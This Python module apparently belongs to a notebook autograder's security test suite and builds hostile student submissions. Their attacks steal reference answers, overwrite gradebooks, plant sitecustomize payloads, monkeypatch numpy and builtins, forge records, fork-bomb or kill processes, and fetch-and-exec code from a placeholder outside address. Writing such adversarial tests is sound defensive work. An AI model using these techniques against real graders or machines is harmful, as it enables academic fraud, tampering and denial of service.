"""Hostile submissions against any assignment, built from its released student notebook.

``ATTACKS`` maps an attack name to ``fn(nb, env) -> attacked notebook``; ``build(name, nb, env)`` calls it on
a copy. Each docstring says what the attack tries. The attacker is assumed to be strong: it knows where the
course checkout, the assignment's instructor folder and the batch's output folder are (``Env``), every check
name, and the public expected values that the released notebook prints in its visible checks. It never
knows a hidden reference value, and no attack contains a correct solution of its own: if an attack raises a
score, the grader let it.

The attacks act on cells by their nbgrader metadata (solution cells, test cells, the ``imports`` cell) and
on the grader's files, so they apply to every assignment: the fast suite runs them on the numpy-only toy,
a slow smoke test runs a few on tf_basics with TensorFlow.

``TAMPERING`` names the attacks that change the instructor's cells or their metadata; the grader must
report those as tampering. The other attacks act from inside the student's code.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import re
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

# Where the batch writes, by the grader's own names: the attacker knows them.
from autograder.batch.batch import GRADEBOOK, GRADES_CSV, RESULTS

MIME = "application/vnd.autograder.record+json"


@dataclasses.dataclass(frozen=True)
class Env:
    """What an attacker is told about the grading machine (the strongest realistic guesses)."""

    repo: Path  # the course checkout: the shared helper modules (autograder/student/)
    name: str  # the assignment's name
    source_dir: Path  # its instructor folder: source notebook, grading.toml, reference.json
    notebook: str  # the notebook's file name
    release_dir: Path | None  # where its released copy and helper modules live, if it has one on disk
    out: Path  # the batch's --out folder: results/, the gradebook, the grades CSV
    solution_url: str  # a server on the grading machine's loopback that serves the solution code
    outside_url: str = "http://192.0.2.1:80/solution.py"  # an address beyond the machine (TEST-NET-1)
    # check name -> encoded value a forger would record: the public expected value for visible checks,
    # a guess (the group's first visible value) for hidden ones
    forged: dict[str, Any] = dataclasses.field(default_factory=dict)
    groups: dict[str, list[str]] = dataclasses.field(default_factory=dict)  # test grade_id -> check names


def env_for(spec, reference_doc: dict, *, repo: Path, out: Path, solution_url: str, release_dir: Path | None = None) -> Env:
    """An Env for an assignment's spec; forged values come only from visible checks (public)."""
    forged, groups = {}, {}
    for group in spec.groups:
        names = [c.name for c in group.checks]
        groups[group.grade_id] = names
        public = [c.name for c in group.checks if c.visible]
        guess = reference_doc["values"][public[0]] if public else {"type": "none"}
        for check in group.checks:
            forged[check.name] = reference_doc["values"][check.name] if check.visible else guess
    return Env(
        repo=repo,
        name=spec.name,
        source_dir=spec.folder,
        notebook=spec.notebook,
        release_dir=release_dir,
        out=out,
        solution_url=solution_url,
        forged=forged,
        groups=groups,
    )


# ------------------------------------------------------------------------------- notebook surgery


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if _gid(cell) == grade_id:
            return i
    raise KeyError(grade_id)


def solution_ids(nb) -> list[str]:
    return [_gid(c) for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")]


def test_ids(nb) -> list[str]:
    return [_gid(c) for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def _signature(nb, grade_id: str) -> tuple[str, str]:
    """(function name, argument list) of the function a solution cell defines."""
    m = re.search(r"^def (\w+)\((.*?)\):", nb.cells[_index(nb, grade_id)].source, re.M)
    assert m, f"no function in solution cell {grade_id}"
    return m.group(1), m.group(2)


def _code_cell(source: str):
    import nbformat

    return nbformat.v4.new_code_cell(source=source)


def _insert_after(nb, grade_id: str, source: str) -> None:
    nb.cells.insert(_index(nb, grade_id) + 1, _code_cell(source))


def _define_all(nb, body: Callable[[str, str], str]) -> None:
    """Replace every solution cell by ``def f(args):`` with body(name, args) as the function's body."""
    for gid in solution_ids(nb):
        name, args = _signature(nb, gid)
        nb.cells[_index(nb, gid)].source = f"def {name}({args}):\n" + textwrap.indent(body(name, args), "    ")


def _blank_body(name: str, args: str) -> str:
    return f"def {name}({args}):\n    raise NotImplementedError()\n"


def _first_arg(args: str) -> str | None:
    first = args.split(",")[0].split("=")[0].strip()
    return first or None


def _finder(env: Env) -> str:
    """A helper cell that finds files on the grading machine: the given guesses, then a shallow walk."""
    return FINDER.replace("SUBFOLDERS", repr(("", f"source_solutions/{env.name}", env.name, "grading", "out")))


FINDER = """
import json as _json, os as _os
def _find(name, guesses):
    for path in guesses:
        if _os.path.isfile(path):
            return path
    here = _os.getcwd()
    while True:
        for sub in SUBFOLDERS:
            path = _os.path.join(here, sub, name)
            if _os.path.isfile(path):
                return path
        if here == "/":
            break
        here = _os.path.dirname(here)
    for top in ("/work", "/root", "/home", "/srv", "/opt", "/tmp", "/var"):
        for dirpath, dirnames, filenames in _os.walk(top):
            if dirpath.count("/") - top.count("/") >= 4:
                dirnames[:] = []
            if name in filenames:
                return _os.path.join(dirpath, name)
    return None
"""


def _after_imports(nb, source: str) -> None:
    _insert_after(nb, "imports", source)


# ------------------------------------------------------------------------------- reading from disk


def read_solution_notebook(nb, env: Env):
    """Find the instructor's source notebook on disk and exec its solution cells in place of the answers."""
    guess = env.source_dir / env.notebook
    _after_imports(
        nb,
        _finder(env)
        + textwrap.dedent(f"""
        _SOLUTIONS = {{}}
        _path = _find({env.notebook!r}, [{str(guess)!r}])
        try:
            for _cell in _json.load(open(_path))["cells"]:
                _meta = _cell.get("metadata", {{}}).get("nbgrader", {{}})
                if _meta.get("solution") and "BEGIN SOLUTION" in "".join(_cell["source"]):
                    _SOLUTIONS[_meta["grade_id"]] = "".join(_cell["source"])
        except Exception as _exc:
            print("could not read the solutions:", type(_exc).__name__)
    """),
    )
    for gid in solution_ids(nb):
        name, args = _signature(nb, gid)
        nb.cells[_index(nb, gid)].source = (
            f"if {gid!r} in _SOLUTIONS:\n    exec(_SOLUTIONS[{gid!r}], globals())\nelse:\n"
            + textwrap.indent(_blank_body(name, args), "    ")
        )
    return nb


def read_reference_values(nb, env: Env):
    """Read reference.json from disk and replay the hidden and visible reference values as records."""
    guess = env.source_dir / "reference.json"
    _after_imports(
        nb,
        _finder(env)
        + textwrap.dedent(f"""
        from IPython.display import display as _display
        try:
            _REFS = _json.load(open(_find("reference.json", [{str(guess)!r}])))["values"]
        except Exception as _exc:
            _REFS = {{}}
            print("no reference values:", type(_exc).__name__)
        def _replay(prefix):
            # one record per name of this function's checks, then stop the test cell before it records its own
            if not _REFS:
                raise NotImplementedError()
            for _name, _payload in _REFS.items():
                if _name.startswith(prefix + "."):
                    _display({{{MIME!r}: {{"name": _name, "value": _payload}}, "text/plain": _name}}, raw=True)
            raise RuntimeError("replayed")
    """),
    )
    _define_all(nb, lambda name, args: f"return _replay({name!r})\n")
    return nb


def read_gradebook(nb, env: Env):
    """Open the gradebook (and the grades CSV, results/) in the output folder; exec any solution code found there."""
    guesses = [str(env.out / GRADEBOOK), str(env.out / GRADES_CSV)]
    _after_imports(
        nb,
        _finder(env)
        + textwrap.dedent(f"""
        import glob as _glob, sqlite3 as _sqlite3
        _FOUND = []
        _db = _find({GRADEBOOK!r}, [{guesses[0]!r}])
        if _db:
            _con = _sqlite3.connect(_db)
            for (_table,) in _con.execute("select name from sqlite_master where type = 'table'"):
                for _row in _con.execute(f"select * from '{{_table}}'"):
                    _FOUND += [v for v in _row if isinstance(v, str) and "def " in v]
        for _path in [_find({GRADES_CSV!r}, [{guesses[1]!r}])] + _glob.glob({str(env.out / RESULTS / "*.json")!r}):
            if _path:
                _FOUND.append(open(_path).read())
        print("found", len(_FOUND), "texts")
        def _steal(name):
            for _text in _FOUND:
                if f"def {{name}}(" in _text:
                    try:
                        exec(_text, globals())
                        return True
                    except Exception:
                        pass
            return False
    """),
    )
    for gid in solution_ids(nb):
        name, args = _signature(nb, gid)
        nb.cells[_index(nb, gid)].source = f"if not _steal({name!r}):\n" + textwrap.indent(_blank_body(name, args), "    ")
    return nb


def write_results_and_gradebook(nb, env: Env):
    """Write full marks into results/, the grades CSV and the gradebook of the output folder, and a ghost student."""
    _after_imports(
        nb,
        textwrap.dedent(f"""
        import glob, json, os, sqlite3
        out = {str(env.out)!r}
        written = []
        for path in glob.glob(os.path.join(out, {RESULTS!r}, "*.json")) + [os.path.join(out, {RESULTS!r}, "ghost.json")]:
            try:
                data = json.load(open(path)) if os.path.exists(path) else {{"student": "ghost", "result": {{}}}}
                data["result"]["score"] = data["result"].get("max_score", 1000.0)
                data["sha256"] = "0" * 64
                json.dump(data, open(path, "w"))
                written.append(path)
            except Exception as exc:
                print("results:", type(exc).__name__)
        try:
            con = sqlite3.connect(os.path.join(out, {GRADEBOOK!r}))
            for (table,) in con.execute("select name from sqlite_master where type = 'table'"):
                cols = [r[1] for r in con.execute(f"pragma table_info('{{table}}')")]
                if "auto_score" in cols:
                    con.execute(f"update '{{table}}' set auto_score = 100")
            con.commit()
            written.append({GRADEBOOK!r})
        except Exception as exc:
            print("gradebook:", type(exc).__name__)
        try:
            with open(os.path.join(out, {GRADES_CSV!r}), "a") as f:
                f.write("ghost,1000,1000\\n")
            written.append({GRADES_CSV!r})
        except Exception as exc:
            print("csv:", type(exc).__name__)
        print("written:", written)
    """),
    )
    return nb


def overwrite_reference_values(nb, env: Env):
    """Rewrite reference.json and grading.toml on disk to zeros and huge tolerances, then return zeros."""
    folder = env.source_dir
    _after_imports(
        nb,
        textwrap.dedent(f"""
        import json, os, re
        folder = {str(folder)!r}
        try:
            doc = json.load(open(os.path.join(folder, "reference.json")))
            for payload in doc["values"].values():
                payload["data"] = [0.0] * len(payload["data"])
            json.dump(doc, open(os.path.join(folder, "reference.json"), "w"))
            toml = open(os.path.join(folder, "grading.toml")).read()
            toml = re.sub(r"atol = [^\\n]+", "atol = 1e9", toml)
            open(os.path.join(folder, "grading.toml"), "w").write(toml)
            print("rewritten")
        except Exception as exc:
            print("could not rewrite:", type(exc).__name__)
    """),
    )
    _define_all(nb, lambda name, args: "return np.zeros((1,))\n")
    return nb


def persist_in_environment(nb, env: Env):
    """Plant code for later kernels: a sitecustomize in the venv, a patched shared selfcheck.py in the checkout."""
    released = [str(env.release_dir / "selfcheck.py")] if env.release_dir else []
    _after_imports(
        nb,
        textwrap.dedent(f"""
        import os, sysconfig
        payload = "import numpy\\nnumpy.allclose = lambda *a, **k: True\\n"
        targets = [os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
                   os.path.join(sysconfig.get_paths()["purelib"], "usercustomize.py"),
                   {str(env.repo / "autograder" / "student" / "selfcheck.py")!r},
                   {str(env.source_dir / "selfcheck.py")!r}] + {released!r}
        for path in targets:
            try:
                with open(path, "a") as f:
                    f.write(payload)
                print("planted", path)
            except Exception as exc:
                print("cannot plant", path, type(exc).__name__)
    """),
    )
    return nb


# ------------------------------------------------------------------------------- patching the checkers


def patch_numpy(nb, env: Env):
    """Make numpy's comparisons always agree, then return zeros (fools any in-kernel assert_allclose)."""
    _after_imports(
        nb,
        textwrap.dedent("""
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        np.testing.assert_almost_equal = lambda *a, **k: None
    """),
    )
    _define_all(nb, lambda name, args: "return np.zeros((1,))\n")
    return nb


def patch_builtins_and_tracebacks(nb, env: Env):
    """Turn every printed FAILED into PASSED and hide tracebacks, so no test cell shows an error."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import builtins, sys
        _print = builtins.print
        def _lying_print(*args, **kw):
            _print(*[str(a).replace("FAILED", "PASSED") for a in args], **kw)
        builtins.print = _lying_print
        builtins.AssertionError = type("AssertionError", (BaseException,), {})
        ip = get_ipython()
        ip.showtraceback = lambda *a, **k: None
        ip.showsyntaxerror = lambda *a, **k: None
        sys.excepthook = lambda *a: None
    """),
    )
    return nb


def replace_checker(nb, env: Env):
    """Replace selfcheck.check/record (module and notebook names) by functions that only print PASSED."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import selfcheck
        def _passed(name, *args, **kwargs):
            print("PASSED ", name)
            return True
        selfcheck.check = selfcheck.record = check = record = _passed
    """),
    )
    _define_all(nb, lambda name, args: "return None\n")
    return nb


def rewrite_selfcheck_file(nb, env: Env):
    """Overwrite selfcheck.py in the working folder with a recorder that records nothing, and reload it."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import importlib, selfcheck
        with open(selfcheck.__file__, "w") as f:
            f.write("def check(name, *a, **k):\\n    print('PASSED ', name)\\n    return True\\n"
                    "def record(name, *a, **k):\\n    return None\\n")
        selfcheck = importlib.reload(selfcheck)
        check, record = selfcheck.check, selfcheck.record
    """),
    )
    _define_all(nb, lambda name, args: "return None\n")
    return nb


# ------------------------------------------------------------------------------- forged records


def _forge_code(env: Env) -> str:
    return textwrap.dedent(f"""
        from IPython.display import display as _display
        _FORGED = {json.dumps(env.forged)!r}
        def _forge():
            import json
            for _name, _payload in json.loads(_FORGED).items():
                _display({{{MIME!r}: {{"name": _name, "value": _payload}}, "text/plain": _name}}, raw=True)
    """)


def forge_records_student_cell(nb, env: Env):
    """A student cell prints a record (the grader's MIME type) for every check name, with the public values."""
    _after_imports(nb, _forge_code(env) + "_forge()\n")
    for gid in solution_ids(nb):  # once more after each answer, in case only the last records count
        _insert_after(nb, gid, "_forge()\n")
    return nb


def forge_records_in_function(nb, env: Env):
    """Each graded function prints records for every check name while a test cell runs it, then raises, so the
    test cell records nothing of its own beside them (a name recorded twice fails)."""
    _after_imports(nb, _forge_code(env))
    _define_all(nb, lambda name, args: "_forge()\nraise NotImplementedError()\n")
    return nb


# ------------------------------------------------------------------------------- frames and lying values


def stack_frame_globals(nb, env: Env):
    """From inside a graded function, rebind the calling test cell's check/record/np to always-pass fakes."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import sys, types
        def _hijack():
            frame = sys._getframe(1)
            while frame is not None:
                g = frame.f_globals
                if "check" in g:
                    fake_np = types.SimpleNamespace(**{k: getattr(np, k) for k in dir(np) if not k.startswith("__")})
                    fake_np.allclose = lambda *a, **k: True
                    g["np"] = fake_np
                    g["check"] = lambda name, *a, **k: print("PASSED ", name) or True
                    g["record"] = lambda *a, **k: None
                frame = frame.f_back
    """),
    )
    _define_all(nb, lambda name, args: "_hijack()\nreturn 0.0\n")
    return nb


def stack_frame_locals(nb, env: Env):
    """Return an object whose .numpy() (called by the recorder) rewrites the recorder's locals via the frame."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import ctypes, sys
        class _Sneaky:
            def numpy(self):
                frame = sys._getframe(1)
                while frame is not None:
                    if "ok" in frame.f_code.co_varnames or "payload" in frame.f_code.co_varnames:
                        frame.f_locals["ok"] = True
                        frame.f_locals["payload"] = {"name": "forged", "value": {"type": "none"}}
                        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
                    frame = frame.f_back
                return float("nan")
    """),
    )
    _define_all(nb, lambda name, args: "return _Sneaky()\n")
    return nb


def stack_frame_read_expected(nb, env: Env):
    """Return an object whose .numpy() (called by the recorder) reads ``expected`` from check()'s frame.

    A generic cheat: one cell, no knowledge of the assignment, and every visible check records the value
    the test cell itself expects.
    """
    _after_imports(
        nb,
        textwrap.dedent("""
        import sys
        class _Peek:
            def numpy(self):
                frame = sys._getframe(1)
                while frame is not None:
                    if "expected" in frame.f_locals:
                        return np.asarray(frame.f_locals["expected"])
                    frame = frame.f_back
                return np.asarray(float("nan"))
    """),
    )
    _define_all(nb, lambda name, args: "return _Peek()\n")
    return nb


def lying_objects(nb, env: Env):
    """Return objects whose ==, comparisons and __array__ lie (an ndarray subclass that is close to anything)."""
    _after_imports(
        nb,
        textwrap.dedent("""
        class _AlwaysClose(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
            def __ne__(self, other): return np.zeros(np.shape(other), dtype=bool)
            def __array_ufunc__(self, ufunc, method, *inputs, **kw):
                return np.ones(np.broadcast(*[np.asarray(i) for i in inputs]).shape, dtype=bool)
        class _Liar:
            shape = property(lambda self: (4, 1))
            dtype = np.float32
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __float__(self): return float("nan")
            def __len__(self): return 4
            def __array__(self, dtype=None, copy=None):
                return np.full((4, 1), np.nan).view(_AlwaysClose)
            def __getattr__(self, name): return lambda *a, **k: self
    """),
    )
    _define_all(nb, lambda name, args: "return _Liar()\n")
    return nb


# ------------------------------------------------------------------------------- ending the run


def sys_exit(nb, env: Env):
    """Raise SystemExit(0) at the start of every test cell (from the graded function) and at cell level."""
    _after_imports(nb, "import sys\nsys.exit(0)\n")
    _define_all(nb, lambda name, args: "import sys\nsys.exit(0)\n")
    return nb


def os_exit(nb, env: Env):
    """End the kernel with status 0 inside the first test cell, hoping unrun checks count as passed."""
    _define_all(nb, lambda name, args: "import os\nos._exit(0)\n")
    return nb


def kill_parent(nb, env: Env):
    """SIGKILL the kernel's parent process from the first test cell (the grader, if it were the parent)."""
    _define_all(nb, lambda name, args: "import os\nos.kill(os.getppid(), 9)\n")
    return nb


def kill_all(nb, env: Env):
    """SIGKILL every process the kernel may signal (os.kill(-1, 9)): the grader, the other workers."""
    _define_all(nb, lambda name, args: "import os\nos.kill(-1, 9)\n")
    return nb


def infinite_loop(nb, env: Env):
    """Ignore interrupts and never return, to hang the worker and the batch."""
    _define_all(
        nb,
        lambda name, args: textwrap.dedent("""
        import signal, time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            try:
                time.sleep(0.2)  # sleeps rather than spins: the machine is shared with other tests
            except BaseException:
                pass
    """),
    )
    return nb


def memory_bomb(nb, env: Env):
    """Allocate and touch memory without bound, to take the grader down with the machine."""
    _define_all(
        nb,
        lambda name, args: textwrap.dedent("""
        hoard = []
        while True:
            hoard.append(bytearray(64 << 20))  # zero-filled, so the pages are really used
    """),
    )
    return nb


def fork_bomb(nb, env: Env):
    """Fill the process table with forks that keep forking, to starve the grader and the other workers."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import os, time
        children = 0
        for _ in range(100000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                while True:  # every child keeps trying; sleeps between failures (the machine is shared)
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.5)
            children += 1
        print("forked", children)
    """),
    )
    return nb


def output_flood(nb, env: Env):
    """Print 32 MiB (stdout, stderr, many small messages) from every graded function, far past the output caps."""
    _define_all(
        nb,
        lambda name, args: textwrap.dedent("""
        import sys
        line = "x" * (1 << 20)
        for _ in range(16):
            sys.stdout.write(line)
            sys.stderr.write(line)
        for i in range(5000):
            print(i)
        raise NotImplementedError()
    """),
    )
    return nb


# ------------------------------------------------------------------------------- IPython hooks


def input_transformer_empty(nb, env: Env):
    """An input transformer empties every later cell that calls check or record (the test cells)."""
    _after_imports(
        nb,
        textwrap.dedent("""
        def _empty_tests(lines):
            text = "".join(lines)
            return ['print("PASSED")\\n'] if ("check(" in text or "record(" in text) else lines
        get_ipython().input_transformers_cleanup.append(_empty_tests)
    """),
    )
    return nb


def event_hooks_rewrite(nb, env: Env):
    """An AST transformer swallows the test cells' errors and drops their calls; a post-run hook clears outputs."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import ast
        from IPython.display import clear_output
        class _Swallow(ast.NodeTransformer):
            def visit_Module(self, node):
                body = [ast.Try(body=[stmt], handlers=[ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])],
                                orelse=[], finalbody=[]) for stmt in node.body]
                return ast.fix_missing_locations(ast.Module(body=body, type_ignores=[]))
            def visit_Call(self, node):
                if isinstance(node.func, ast.Name) and node.func.id in ("check", "record"):
                    return ast.Constant(True)
                return self.generic_visit(node)
        ip = get_ipython()
        ip.ast_transformers.append(_Swallow())
        ip.events.register("post_run_cell", lambda result: clear_output())
        ip.events.register("pre_run_cell", lambda info: print("PASSED"))
    """),
    )
    return nb


# ------------------------------------------------------------------------------- the instructor's cells


def _test_cells(nb):
    return [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def edit_test_cells(nb, env: Env):
    """Replace every test cell's code by prints of PASSED (a test that cannot fail)."""
    for cell in _test_cells(nb):
        cell.source = "print('PASSED')\n"
    return nb


def edit_test_metadata(nb, env: Env):
    """Raise points, clear the grade flag, rename grade_ids and unlock the instructor's cells."""
    for i, cell in enumerate(_test_cells(nb)):
        meta = cell.metadata["nbgrader"]
        if i % 3 == 0:
            meta["points"] = 1000
        elif i % 3 == 1:
            meta["grade"] = False
        else:
            meta["grade_id"] = meta["grade_id"] + "_renamed"
        meta["locked"] = False
        cell.source = "print('PASSED')\n"
    return nb


def delete_test_cells(nb, env: Env):
    """Remove every test cell, so that no test can fail."""
    nb.cells = [c for c in nb.cells if c not in _test_cells(nb)]
    return nb


def duplicate_test_cells(nb, env: Env):
    """Put a copy of each test cell (same metadata) before the real one, recording the public expected values."""
    forge = _forge_code(env)
    for cell in list(_test_cells(nb)):
        fake = copy.deepcopy(cell)
        lines = [forge]
        for n in env.groups[_gid(cell)]:
            lines.append(f"_display({{{MIME!r}: {{'name': {n!r}, 'value': __import__('json').loads(_FORGED)[{n!r}]}}}}, raw=True)")
        fake.source = "\n".join(lines) + "\n"
        fake["id"] = f"{_gid(cell)}-copy"  # a valid notebook: cell ids stay unique
        position = next(i for i, c in enumerate(nb.cells) if c is cell)
        nb.cells.insert(position, fake)
    return nb


# ------------------------------------------------------------------------------- the network


def network_download(nb, env: Env):
    """Download the solution code over the network (the grading machine's loopback, then outside) and exec it."""
    _after_imports(
        nb,
        textwrap.dedent(f"""
        import socket, urllib.request
        _CODE = ""
        for _url in ({env.solution_url!r}, {env.outside_url!r}):
            try:
                _CODE = urllib.request.urlopen(_url, timeout=3).read().decode()
                print("downloaded", len(_CODE), "bytes from", _url)
                break
            except Exception as _exc:
                print("no download from", _url, type(_exc).__name__)
        try:
            socket.create_connection(("8.8.8.8", 53), timeout=3).close()
            print("outside reachable")
        except OSError as _exc:
            print("outside unreachable:", type(_exc).__name__)
    """),
    )
    for gid in solution_ids(nb):
        name, args = _signature(nb, gid)
        nb.cells[_index(nb, gid)].source = f"exec(_CODE, globals())\nif {name!r} not in globals():\n" + textwrap.indent(
            _blank_body(name, args), "    "
        )
    return nb


# ------------------------------------------------------------------------------- lying arithmetic (issue #10)


def _return_from_all(nb, setup: str, value: Callable[[str | None], str]) -> None:
    """Run ``setup`` after the imports; every graded function returns the expression value(first argument)."""
    _after_imports(nb, textwrap.dedent(setup))
    _define_all(nb, lambda name, args: f"return {value(_first_arg(args))}\n")


def _shape_of(arg: str | None) -> str:
    # the shape of the first argument, or (n,) when it is a count: a guess at the shape of the answer
    return f"(np.shape({arg}) or (int({arg}),))" if arg else "(1,)"


def lying_float(nb, env: Env):
    """Return a float subclass (nan underneath) whose ``-``, ``abs``, ``<``, ``>`` and ``==`` lie.

    A test cell that judged ``abs(got - expected) < tol`` in the kernel, or recorded a quantity computed from
    the result (``1 - got``), would see a perfect answer.
    """
    _return_from_all(
        nb,
        """
        class _LyingFloat(float):
            def __sub__(self, other): return 0.0
            def __rsub__(self, other): return 0.0
            def __abs__(self): return 0.0
            def __lt__(self, other): return True
            def __le__(self, other): return True
            def __gt__(self, other): return False
            def __ge__(self, other): return True
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = float.__hash__
            shape = ()  # so that test cells recording a shape go on to record the values
    """,
        lambda arg: "_LyingFloat('nan')",
    )
    return nb


def lying_ndarray(nb, env: Env):
    """Return an ndarray subclass (nan underneath, shaped like the first argument) whose ``__array_ufunc__`` lies.

    Every comparison ufunc (``==``, ``<``, ``np.less_equal`` inside ``np.isclose``) answers all True and every
    other ufunc (``-``, ``abs``, ``1 - x``) answers zeros, so any arithmetic done on it in the kernel agrees.
    """
    _return_from_all(
        nb,
        """
        class _LyingArray(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                shape = np.broadcast_shapes(*[np.shape(i) for i in inputs])
                if all(t.endswith("?") for t in ufunc.types):  # comparisons give booleans
                    return np.ones(shape, dtype=bool)
                return np.zeros(shape)
    """,
        lambda arg: f"np.full({_shape_of(arg)}, np.nan).view(_LyingArray)",
    )
    return nb


def lying_dict(nb, env: Env):
    """Return a dict subclass whose ``__getitem__``, ``get`` and ``in`` lie: every key is there and holds a
    lying float, so a test cell that read ``result["W1"]`` and compared it in the kernel would be fooled."""
    _return_from_all(
        nb,
        """
        class _LyingFloat(float):
            def __sub__(self, other): return 0.0
            def __rsub__(self, other): return 0.0
            def __eq__(self, other): return True
            __hash__ = float.__hash__
        class _LyingDict(dict):
            def __getitem__(self, key): return _LyingFloat("nan")
            def get(self, key, default=None): return _LyingFloat("nan")
            def __contains__(self, key): return True
            shape = ()  # so that test cells recording a shape go on to record the values
    """,
        lambda arg: "_LyingDict(value=float('nan'))",
    )
    return nb


def patched_isinstance(nb, env: Env):
    """Patch ``builtins.isinstance`` and ``builtins.type`` so that a fake result passes for an ndarray, and give
    the fake the right shape (that of the first argument, or (n,) for a count) with nan for values.

    A structural check in the kernel (``isinstance(out, np.ndarray) and type(out) is np.ndarray and out.shape
    == expected``) would pass; the shapes the test cells record are right.
    """
    _return_from_all(
        nb,
        """
        import builtins as _builtins
        _real_isinstance, _real_issubclass, _real_type = isinstance, issubclass, type
        class _Fake:
            def __init__(self, shape):
                self.shape, self.dtype = tuple(shape), np.dtype("float64")
            def __array__(self, dtype=None, copy=None):
                return np.full(self.shape, np.nan)
        def _isinstance(obj, classes):
            wanted = classes if _real_isinstance(classes, tuple) else (classes,)
            if _real_type(obj) is _Fake and (np.ndarray in wanted or np.generic in wanted):
                return True
            return _real_isinstance(obj, classes)
        class _TypeMeta(_real_type):  # isinstance(x, type) and issubclass(x, type) keep working
            def __instancecheck__(cls, obj): return _real_isinstance(obj, _real_type)
            def __subclasscheck__(cls, sub): return _real_issubclass(sub, _real_type)
        class _LyingType(_real_type, metaclass=_TypeMeta):
            def __new__(mcs, *args, **kwargs):
                if len(args) == 1 and not kwargs:
                    return np.ndarray if _real_type(args[0]) is _Fake else _real_type(args[0])
                return _real_type(*args, **kwargs)
        _builtins.isinstance, _builtins.type = _isinstance, _LyingType
        print("fake passes for an ndarray:", isinstance(_Fake((2,)), np.ndarray), type(_Fake((2,))) is np.ndarray)
    """,
        lambda arg: f"_Fake({_shape_of(arg)})",
    )
    return nb


# ------------------------------------------------------------------------------- display updates (issue #10)


def _display_setup(env: Env) -> str:
    return textwrap.dedent(f"""
        import json as _json
        from IPython.display import display as _display, update_display as _update
        _FORGED = _json.loads({json.dumps(env.forged)!r})
        def _placeholders(function):
            # shown inside the test cell that calls the function: one display id per check name
            for _name in _FORGED:
                if _name.startswith(function + "."):
                    _display({{"text/plain": "placeholder"}}, raw=True, display_id="slot-" + _name)
            raise NotImplementedError()
    """)


def _placeholder_functions(nb) -> None:
    for gid in solution_ids(nb):
        name, args = _signature(nb, gid)
        nb.cells[_index(nb, gid)].source = f"def {name}({args}):\n    _placeholders({name!r})\n"


def display_update_test_cell(nb, env: Env):
    """Each graded function shows placeholders inside the calling test cell, under display ids of its own, and
    raises; the last cell turns every placeholder, with ``update_display``, into a record of the public
    expected value (a guess for hidden checks), as if the test cell had recorded it."""
    _after_imports(nb, _display_setup(env))
    _placeholder_functions(nb)
    nb.cells.append(
        _code_cell(
            textwrap.dedent(f"""
        for _name, _payload in _FORGED.items():
            _update({{{MIME!r}: {{"name": _name, "value": _payload}}, "text/plain": _name}}, raw=True, display_id="slot-" + _name)
        print("rewritten")
    """)
        )
    )
    return nb


def display_update_flood(nb, env: Env):
    """The last cell floods display updates: 50 updates of 1 MB each to a display of its own and as many to the
    placeholders shown inside the test cells (in turn), hoping to keep 100 MB in the graded notebook (and in the
    grader's memory): updates rewrite outputs in place, past caps that count outputs as they arrive."""
    _after_imports(nb, _display_setup(env))
    _placeholder_functions(nb)
    nb.cells.append(
        _code_cell(
            textwrap.dedent("""
        _display({"text/plain": "mine"}, raw=True, display_id="flood")
        _big, _slots = {"text/plain": "y" * 1_000_000}, ["slot-" + _name for _name in _FORGED]
        for _i in range(50):
            _update(_big, raw=True, display_id="flood")
            _update(_big, raw=True, display_id=_slots[_i % len(_slots)])
        print("flooded")
    """)
        )
    )
    return nb


# ------------------------------------------------------------------------------- the working folder (issue #10)


def deep_folder_tree(nb, env: Env):
    """Leave 1500 nested folders in the working folder (deeper than Python's recursion limit), so that a
    recursive cleanup raises, the worker dies, the folder stays, and every later grader trips on it when it
    sweeps the leftovers of dead graders."""
    _after_imports(
        nb,
        textwrap.dedent("""
        import os as _os
        _base = _os.getcwd()
        for _ in range(1500):
            _os.mkdir("d")
            _os.chdir("d")
        open("leaf.txt", "w").write("x")
        _os.chdir(_base)
    """),
    )
    return nb


ATTACKS: dict[str, Callable[[Any, Env], Any]] = {
    fn.__name__: fn
    for fn in (
        read_solution_notebook,
        read_reference_values,
        read_gradebook,
        write_results_and_gradebook,
        overwrite_reference_values,
        persist_in_environment,
        patch_numpy,
        patch_builtins_and_tracebacks,
        replace_checker,
        rewrite_selfcheck_file,
        forge_records_student_cell,
        forge_records_in_function,
        stack_frame_globals,
        stack_frame_locals,
        stack_frame_read_expected,
        lying_objects,
        sys_exit,
        os_exit,
        kill_parent,
        kill_all,
        infinite_loop,
        memory_bomb,
        fork_bomb,
        output_flood,
        input_transformer_empty,
        event_hooks_rewrite,
        edit_test_cells,
        edit_test_metadata,
        delete_test_cells,
        duplicate_test_cells,
        network_download,
        lying_float,
        lying_ndarray,
        lying_dict,
        patched_isinstance,
        display_update_test_cell,
        display_update_flood,
        deep_folder_tree,
    )
}

# Attacks that change the instructor's cells or their metadata: the result must say so.
TAMPERING = {"edit_test_cells", "edit_test_metadata", "delete_test_cells", "duplicate_test_cells"}

